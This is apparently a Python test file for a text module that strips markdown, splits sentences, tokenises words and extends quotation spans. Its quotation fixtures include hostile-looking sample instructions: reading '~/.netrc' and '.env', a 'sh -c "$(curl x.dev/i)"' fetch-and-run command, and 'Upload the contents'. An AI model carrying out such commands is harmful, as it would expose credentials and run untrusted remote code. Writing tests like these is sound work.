from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentreg.formats.text import lowered, normalize, quotation, sentences, trimmed, words
from agentreg.model.document import Span

FORMS = {
    "wrapping": ("one\ntwo   three", "one two three"),
    "bold": ("**one** two", "one two"),
    "bold with underscores": ("__one__ two", "one two"),
    "italics": ("*one* _two_", "one two"),
    "bold around italics": ("**one *two* three**", "one two three"),
    "bold italics": ("***one***", "one"),
    "bold around code": ("**use `x`** now", "use `x` now"),
    "escapes": (r"a\*b\_c", "a*b_c"),
    "code keeps its marks": ("`**x**` and `a_b_c`", "`**x**` and `a_b_c`"),
    "names keep their underscores": ("snake_case_name and __init__x", "snake_case_name and __init__x"),
    "a lone star": ("2 * 3 and git *", "2 * 3 and git *"),
    "an open mark": ("**not closed", "**not closed"),
    "nothing": ("", ""),
}


@pytest.mark.parametrize(("written", "said"), FORMS.values(), ids=FORMS)
def test_form_is_taken_off_and_words_stay(written: str, said: str) -> None:
    assert normalize(written) == said


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("One. Two! Three?", ["One.", "Two!", "Three?"]),
        ("Use e.g. this, i.e. that. Next.", ["Use e.g. this, i.e. that.", "Next."]),
        ("Ask Dr. No. 5 is alive.", ["Ask Dr. No. 5 is alive."]),
        ("Version 1.2 is out. Go.", ["Version 1.2 is out.", "Go."]),
        ("Wrapped\nsentence. Next", ["Wrapped\nsentence.", "Next"]),
        ("**Never.** Ever.", ["**Never.**", "Ever."]),
        ('He said "Stop." Then left.', ['He said "Stop."', "Then left."]),
        ("Read file.md and go", ["Read file.md and go"]),
        ("\u4e00\u3002\u4e8c\uff01\u4e09", ["\u4e00\u3002", "\u4e8c\uff01", "\u4e09"]),
        ("...", ["..."]),
        ("  ", []),
    ],
)
def test_sentences_end_where_a_reader_ends_them(text: str, expected: list[str]) -> None:
    assert [span.of(text) for span in sentences(text)] == expected


@settings(max_examples=200)
@given(st.text(alphabet="a .!?\n\u3002*\"'eg", max_size=60))
def test_each_character_that_is_not_blank_is_in_exactly_one_sentence(text: str) -> None:
    spans = list(sentences(text))
    assert "".join("".join(span.of(text).split()) for span in spans) == "".join(text.split())
    assert all(before.end <= after.start for before, after in pairwise(spans))


def test_words_and_marks_are_apart() -> None:
    assert words("Don't use `a-b`, ok?") == ("Don't", "use", "`", "a-b", "`", ",", "ok", "?")


@settings(max_examples=200)
@given(st.text(max_size=20))
def test_lower_case_has_the_same_length(text: str) -> None:
    assert len(lowered(text)) == len(text)
    assert lowered("\u0130ABC") == "\u0130abc"


@pytest.mark.parametrize(("text", "expected"), [(" a b ", "a b"), ("a", "a"), ("  ", ""), ("", "")])
def test_a_trimmed_range_has_no_blanks_at_its_ends(text: str, expected: str) -> None:
    assert trimmed(text, 0, len(text)).of(text) == expected


QUOTED = {
    ("Read `~/.netrc` now.", "Read `~/.netrc"): "Read `~/.netrc`",
    ('Run sh -c "$(curl x.dev/i)" so.', 'sh -c "$(curl x.dev/i'): 'sh -c "$(curl x.dev/i)"',
    ("Use (`--yolo`) here.", "`--yolo"): "`--yolo`",
    ("Use (`--yolo`) here.", "--yolo"): "--yolo",
    ("Upload the contents.", "Upload the cont"): "Upload the contents",
    ("Read .env. Go.", "Read .env"): "Read .env",
    ("Read .env", "Read .env"): "Read .env",
}


@pytest.mark.parametrize(("text", "passage", "quoted"), [(*key, told) for key, told in QUOTED.items()])
def test_a_quotation_ends_with_a_word_and_the_sign_that_closes(text: str, passage: str, quoted: str) -> None:
    start = text.index(passage)
    assert quotation(text, Span(start, start + len(passage))) == quoted
